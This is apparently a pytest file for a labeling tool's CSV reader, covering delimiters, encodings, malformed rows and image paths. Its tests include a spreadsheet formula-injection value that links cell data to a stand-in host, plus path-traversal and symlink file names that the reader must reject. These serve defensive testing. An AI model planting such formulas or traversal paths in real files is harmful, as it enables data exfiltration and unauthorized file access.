"""Tables: columns found or told, encodings, ragged and broken rows."""

import csv as stdlib_csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from labeling.errors import BadOptions, BadSource
from labeling.formats import GivenPrediction
from tests.labeling.formats.sources import Rows
from tests.pictures import png

PROSE = [f"this is text number {i} about {topic} and more" for i, topic in enumerate("abcdefghijkl")]


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def test_a_header_says_what_is_what(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "id,text,label,author\n1,hello there,pos,Ann\n2,good bye,neg,Bob\n")
    rows = Rows(path, "text")
    assert rows.format == "csv"
    assert rows.texts == ["hello there", "good bye"]
    assert rows.labels == [("pos",), ("neg",)]
    assert rows.ids == ["1", "2"]
    assert [dict(r.attributes) for r in rows.records] == [{"author": "Ann"}, {"author": "Bob"}]
    assert [r.where for r in rows.records] == ["a.csv, line 2", "a.csv, line 3"]
    assert str(rows.notes[0]) == "a.csv: text from text, label from label, id from id"


def test_a_class_before_title_and_description_without_a_header(tmp_path: Path) -> None:
    lines = [f'"{1 + i % 4}","Title of the news {i}","{text}"' for i, text in enumerate(PROSE)]
    rows = Rows(write(tmp_path / "news.csv", "\n".join(lines)), "text")
    assert rows.texts[0] == f"Title of the news 0 {PROSE[0]}"
    assert rows.labels[:5] == [("1",), ("2",), ("3",), ("4",), ("1",)]
    assert len(rows.records) == len(PROSE)
    assert rows.ids == [None] * len(PROSE)


@pytest.mark.parametrize("delimiter", [",", "\t", ";", "|"])
def test_text_and_label_without_a_header(tmp_path: Path, delimiter: str) -> None:
    lines = [f"{text}{delimiter}{i % 3}" for i, text in enumerate(PROSE)]
    rows = Rows(write(tmp_path / "a.csv", "\n".join(lines)), "text")
    assert rows.texts == PROSE
    assert rows.labels == [(str(i % 3),) for i in range(len(PROSE))]


def test_two_rows_of_text_and_label_are_enough(tmp_path: Path) -> None:
    rows = Rows(write(tmp_path / "a.csv", "what a good film,pos\nwhat a bad film,neg\n"), "text")
    assert rows.labels == [("pos",), ("neg",)]


def test_a_header_of_unknown_words_is_seen_by_what_stands_below(tmp_path: Path) -> None:
    lines = [
        "headline said,verdict",
        *(f"{text},{'good' if i % 2 else 'poor'}" for i, text in enumerate(PROSE)),
    ]
    rows = Rows(write(tmp_path / "a.csv", "\n".join(lines)), "text", label_column="verdict")
    assert rows.texts == PROSE
    assert set(rows.labels) == {("good",), ("poor",)}


def test_columns_told_by_name_and_by_number(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "a,b,c,d\nx1,y1,z1,w1\nx2,y2,z2,w2\n")
    told = Rows(
        path, "text", text_column="c, a", label_column="b", id_column="4", header=True, metadata=["a"]
    )
    assert told.texts == ["z1 x1", "z2 x2"]
    assert told.labels == [("y1",), ("y2",)]
    assert told.ids == ["w1", "w2"]
    assert dict(told.records[0].attributes) == {"a": "x1"}
    plain = Rows(path, "text", text_column="1", label_column="2", header=False)
    assert plain.texts == ["a", "x1", "x2"]
    assert plain.labels[0] == ("b",)


@pytest.mark.parametrize("column", ["nope", "0", "5", "99999999999999999999"])
def test_a_column_that_is_not_there(tmp_path: Path, column: str) -> None:
    path = write(tmp_path / "a.csv", "a,b,c,d\n1,2,3,4\n")
    with pytest.raises(BadOptions, match=rf"a.csv: there is no column '{column}'; the columns are"):
        Rows(path, "text", text_column=column)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_encodings(tmp_path: Path, encoding: str) -> None:
    text = "text,label\nGrüße aus Köln and more text,räumlich\n𝔘nicode emoji 👩‍👩‍👧 here,zwei\n"
    rows = Rows(write(tmp_path / "a.csv", text, encoding), "text")
    assert rows.texts == ["Grüße aus Köln and more text", "𝔘nicode emoji 👩‍👩‍👧 here"]
    assert rows.labels == [("räumlich",), ("zwei",)]


def test_bad_rows_are_named_by_line_and_the_rest_is_read(tmp_path: Path) -> None:
    text = (
        '\ufeffid,text,label\r\n1,"line one\nline two, with comma",a\n2,"quote "" inside",b\n3,ragged\n'
        '4,too,many,cells\n\n6,"broken"quote,a\n7,fine again,a\n5,"unterminated quote,c\n'
    )
    rows = Rows(write(tmp_path / "a.csv", text), "text")
    assert rows.texts == ["line one\nline two, with comma", 'quote " inside', "fine again"]
    assert [str(b) for b in rows.bad] == [
        "a.csv, line 5: 2 cells, expected 3",
        "a.csv, line 6: 4 cells, expected 3",
        "a.csv, line 8: not valid CSV: ',' expected after '\"'",
        "a.csv, line 10: a quote that opens in this row is never closed",
    ]


def test_bytes_that_are_no_utf8_spoil_their_row_only(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"text,label\ngood one,a\nlatin-1 caf\xe9,b\ngood two,a\n")
    rows = Rows(path, "text")
    assert rows.texts == ["good one", "good two"]
    assert [str(b) for b in rows.bad] == ["a.csv, line 3: not valid UTF-8"]


def test_formulas_are_kept_as_they_are(tmp_path: Path) -> None:
    text = 'id,text,label\n1,"=HYPERLINK(""http://x/?""&A1,""y"")",spam\n2,+1+1,ham\n3,@SUM(1),ham\n'
    assert Rows(write(tmp_path / "a.csv", text), "text").texts == [
        '=HYPERLINK("http://x/?"&A1,"y")',
        "+1+1",
        "@SUM(1)",
    ]


def test_several_labels_in_a_cell(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", "text,labels\nfirst,a|b\nsecond, c \nthird,\n")
    assert Rows(path, "text", label_separator="|", delimiter=",").labels == [("a", "b"), ("c",), ()]


def test_predictions(tmp_path: Path) -> None:
    path = write(
        tmp_path / "a.csv", "text,prediction,score\nfirst,a,0.9\nsecond,b,\nthird,,\nfourth,c,high\n"
    )
    rows = Rows(path, "text", prediction_source="old model")
    assert [r.predictions for r in rows.records] == [
        (GivenPrediction("old model", "a", 0.9),),
        (GivenPrediction("old model", "b", None),),
        (),
    ]
    assert "'high' is not a number" in str(rows.bad[0])


def test_images_beside_the_table(tmp_path: Path) -> None:
    (tmp_path / "data" / "pics").mkdir(parents=True)
    (tmp_path / "data" / "pics" / "1.png").write_bytes(png())
    (tmp_path / "secret.png").write_bytes(png(1))
    (tmp_path / "data" / "link.png").symlink_to(tmp_path / "secret.png")
    names = [
        "pics/1.png",
        "../secret.png",
        str(tmp_path / "secret.png"),
        "link.png",
        "http://x/y.png",
        "none.png",
        "pics",
    ]
    table = write(tmp_path / "data" / "a.csv", "image,label\n" + "".join(f"{name},a\n" for name in names))
    rows = Rows(table, "image")
    assert [(r.external_id, r.data) for r in rows.records] == [("pics/1.png", png())]
    said = [row.message for row in rows.bad]
    assert ["leaves" in text for text in said] == [True, True, True, False, False, False]
    assert "URL" in said[3]
    assert "no file" in said[4]
    assert "not a file" in said[5]


def test_tables_that_are_none(tmp_path: Path) -> None:
    with pytest.raises(BadSource, match="no rows"):
        Rows(write(tmp_path / "a.csv", "\n\n"), "text")
    with pytest.raises(BadSource, match="names image files"):
        Rows(write(tmp_path / "b.csv", "text,label\nx,y\n"), "image")


cells = st.text(st.characters(exclude_characters="\0\r", exclude_categories=("Cs",)), max_size=30)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60, deadline=None)
@given(table=st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=8))
def test_what_a_csv_writer_writes_is_read_back(tmp_path: Path, table: list[tuple[str, str, str]]) -> None:
    buffer = io.StringIO(newline="")
    writer = stdlib_csv.writer(buffer, quoting=stdlib_csv.QUOTE_ALL)
    writer.writerows([("text", "label", "note"), *table])
    rows = Rows(write(tmp_path / "a.csv", buffer.getvalue()), "text", delimiter=",", header=True)
    assert rows.bad == []
    assert rows.texts == [text for text, _, _ in table]
    assert rows.labels == [(label.strip(),) if label.strip() else () for _, label, _ in table]
    assert [r.attributes["note"] for r in rows.records] == [note for _, _, note in table]
